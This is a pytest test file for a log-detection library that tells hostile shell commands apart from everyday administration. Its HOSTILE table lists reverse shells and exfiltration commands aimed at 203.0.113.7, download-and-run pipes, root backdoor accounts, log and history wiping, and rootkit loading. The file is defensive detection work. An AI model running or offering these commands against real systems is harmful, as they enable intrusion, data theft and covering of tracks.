# SPDX-License-Identifier: Apache-2.0
"""Command lines: what is hostile by itself, what only beside something hostile, and what administrators type daily."""

from __future__ import annotations

import polars as pl
import pytest
from memory_events import MemoryEvents, at

from headwater.detect import registry
from headwater.detect.command_table import SIEVE, TRAITS
from headwater.detect.commands import suspicious, targets, traits
from headwater.detect.detectors import shell_history, suspicious_command
from headwater.model.kinds import EventKind, Severity, Stage
from headwater.model.ports import Settings

HOSTILE = {
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1": "reverse-shell",
    "nc -e /bin/sh 203.0.113.7 9001": "reverse-shell",
    "cd CVE-2021-4034 && make": "exploit-tool",
    "git clone https://github.com/x/cve-2022-0847.git": "exploit-tool",
    "CVE-2021-4034": "exploit-tool",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f": "reverse-shell",
    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",1))'": "reverse-shell",
    "curl -s http://203.0.113.7/x.sh | bash": "download-run",
    "wget -q http://203.0.113.7/a -O /tmp/a && chmod +x /tmp/a && /tmp/a": "download-run",
    "echo aWQK | base64 -d | sh": "encoded-run",
    "/dev/shm/.x/run": "hidden-run",
    "nohup /usr/local/lib/.d/kworkerd &": "hidden-run",
    "./xmrig -o stratum+tcp://pool.example:3333": "miner",
    "chmod 4755 /tmp/sh": "suid-shell",
    "useradd -o -u 0 -g 0 -M -s /bin/bash sysadm": "uid0-account",
    "echo 'x::0:0::/root:/bin/bash' >> /etc/passwd": "account-file",
    "unset HISTFILE": "history-off",
    "export HISTFILE=/dev/null": "history-off",
    "history -c": "history-off",
    "ln -sf /dev/null ~/.bash_history": "history-off",
    "rm -f /var/log/auth.log": "log-destroy",
    "> /var/log/wtmp": "log-destroy",
    "dd if=/dev/zero of=/var/log/wtmp bs=384 count=2 conv=notrunc": "log-destroy",
    "sed -i '/203.0.113.7/d' /var/log/auth.log": "log-destroy",
    "journalctl --vacuum-time=1s": "log-destroy",
    "shred -u /var/log/secure": "log-destroy",
    "cat /etc/shadow": "credentials",
    "nmap -sS 10.20.0.0/24": "scan",
    "for i in $(seq 1 254); do ping -c1 10.20.0.$i; done": "scan",
    "curl -T /tmp/d.tgz http://203.0.113.7:8080/": "exfiltrate",
    "scp /tmp/d.tgz root@203.0.113.7:/tmp/": "exfiltrate",
    "find /srv/data -type f | xargs lab-xor": "encrypt-files",
    "chattr +i /etc/cron.d/x": "chattr-hide",
    "echo /lib/x.so > /etc/ld.so.preload": "preload",
    "systemctl stop auditd": "agent-kill",
    "insmod /tmp/rk.ko": "kernel-module",
}
EVERYDAY = """apt update && apt upgrade -y
vim /etc/nginx/nginx.conf
systemctl restart nginx
tail -n 100 /var/log/auth.log
grep Failed /var/log/auth.log
tar czf /srv/backup/data-2026-03-01.tgz -C /srv data
rsync -a /srv/backup/ backup@10.20.0.8:/srv/web01/
curl -s http://127.0.0.1/health
wget https://nginx.org/keys/nginx_signing.key
curl -fsSL https://get.docker.com | sh
rm -rf /tmp/build
ssh bob@db01
scp site.tgz alice@10.20.0.9:
journalctl --vacuum-size=200M
cat /etc/passwd
sudo useradd -m carol
sudo usermod -aG sudo carol
crontab -e
ls -l /etc/shadow
systemctl restart rsyslog
service rsyslog restart
rm /var/log/nginx/access.log.7.gz
cd /root/.ssh && ls
vim ~/.bashrc
openssl req -new -key k.pem
find /srv/backup -name '*.tgz' -mtime +1 -delete
for f in *.csv; do mv $f $f.bak; done
history | grep ssh
nc -zv db01 5432
chmod 755 /etc/rc.local
/usr/lib/php/sessionclean
nmap localhost
mysqldump app | gzip > /srv/backup/app.sql.gz
echo "samba will not start (CVE-2013-4475)"
""".splitlines()
BAD = "203.0.113.7"
T = "2026-03-03 03:00:00"


@pytest.mark.parametrize("command", HOSTILE)
def test_a_hostile_command_has_its_strong_trait(command: str) -> None:
    assert HOSTILE[command] in {t.name for t in traits(command) if t.strong}


@pytest.mark.parametrize("command", EVERYDAY)
def test_an_everyday_command_has_no_strong_trait(command: str) -> None:
    assert [t.name for t in traits(command) if t.strong] == []


def test_the_sieve_loses_nothing_that_the_table_finds() -> None:
    for command in [*HOSTILE, *EVERYDAY]:
        assert not traits(command) or any(word in command.lower() for word in SIEVE), command
    frame = pl.DataFrame({"line": [*HOSTILE, *EVERYDAY]})
    assert suspicious(frame, "line") == {c: traits(c) for c in [*HOSTILE, *EVERYDAY] if traits(c)}


def test_many_commands_at_once_hide_none_that_is_seen_alone() -> None:
    """Beyond some hundred a second sieve is asked first: it must let through what stands out among few."""
    many = [*HOSTILE, *EVERYDAY, *(f"/usr/bin/touch /run/lock/number-{n}" for n in range(300))]
    found = suspicious(pl.DataFrame({"line": many}), "line")
    assert found == {c: traits(c) for c in many if traits(c)}
    assert len({t.name for t in TRAITS}) == len(TRAITS)


def test_a_hostile_line_costs_little() -> None:
    for text in (
        "curl " * 20_000,
        "nc -" + "e" * 50_000,
        "base64 -d | " * 9_000,
        "for i in x;" * 9_000,
        "/tmp/." * 9_000,
    ):
        traits(text)


def test_targets_are_the_other_ends() -> None:
    assert (
        targets(["ssh root@10.20.0.8", "nc 203.0.113.7 1", "curl 127.0.0.1", "scp a bob@db01:"])
        == "10.20.0.8,203.0.113.7,db01"
    )


def history(*commands: str, user: str = "root", when: str | None = None) -> MemoryEvents:
    rows = [(EventKind.COMMAND_HISTORY, when, {"user": user, "command_line": c}) for c in commands]
    return MemoryEvents().say("linux.history", f"p1!/home/{user}/.bash_history", *rows)


def entered(events: MemoryEvents, user: str = "root") -> MemoryEvents:
    fails = [(EventKind.AUTH_FAILURE, T, {"src_ip": BAD, "user": user, "method": "password"})] * 20
    login = (EventKind.AUTH_SUCCESS, at(T) + 10**9, {"src_ip": BAD, "user": user, "method": "password"})
    return events.say("linux.auth", "/var/log/auth.log", *fails, login)


def run(events: MemoryEvents) -> list:
    return list(registry.run(shell_history, events, Settings()))


def test_a_daily_history_is_never_above_low() -> None:
    assert [f for f in run(history(*EVERYDAY)) if f.severity != Severity.LOW] == []


def test_a_lone_equivocal_command_is_low_a_lone_hostile_one_medium_two_are_high() -> None:
    (scan,) = run(history("ls", "nmap -sV 10.20.0.0/24"))
    assert scan.severity == Severity.LOW
    (shell,) = run(history("ls", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"))
    assert shell.severity == Severity.MEDIUM
    both = run(history("nmap -sV 10.20.0.0/24", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "unset HISTFILE"))
    assert {f.rule.stage for f in both} == {Stage.SPREAD, Stage.COVER}
    assert {f.severity for f in both} == {Severity.HIGH}


def test_weak_commands_count_beside_hostile_ones_and_name_their_targets() -> None:
    found = {f.rule.stage: f for f in run(history("ssh root@10.20.0.8", "unset HISTFILE", "cat /etc/shadow"))}
    assert found[Stage.SPREAD].facts["targets"] == "10.20.0.8"
    assert {c.claims["command_line"] for c in found[Stage.SPREAD].spans} == {"ssh root@10.20.0.8", "cat /etc/shadow"}


def test_the_history_of_an_account_that_was_entered_counts_more() -> None:
    (found,) = run(entered(history("ssh bob@db01", user="root")))
    assert found.severity == Severity.MEDIUM
    assert any(c.claims.get("kind") == "auth.success" for c in found.spans)
    assert run(entered(history("ssh bob@db01", user="alice"))) == []


def logged(kind: EventKind, *commands: str, user: str = "root") -> list:
    own = [{"CommandLine": c} if kind == EventKind.PROCESS_CREATE else {} for c in commands]
    named = [{"user": user, "fields": o} | ({} if o else {"command_line": c}) for c, o in zip(commands, own)]
    events = MemoryEvents().say("linux.audit", "/a", *((kind, T, n) for n in named))
    return list(registry.run(suspicious_command, events, Settings()))


@pytest.mark.parametrize("kind", [EventKind.PROCESS_CREATE, EventKind.PRIVILEGE_USE, EventKind.SCHEDULE_RUN])
def test_what_was_logged_as_run(kind: EventKind) -> None:
    (found,) = logged(kind, "rm -f /var/log/auth.log")
    assert (found.severity, found.rule.stage) == (Severity.MEDIUM, Stage.COVER)
    assert "rm -f /var/log/auth.log" in found.text.zh
    assert "rm -f /var/log/auth.log" in found.spans[0].claims.values()
    assert logged(kind, *EVERYDAY) == []
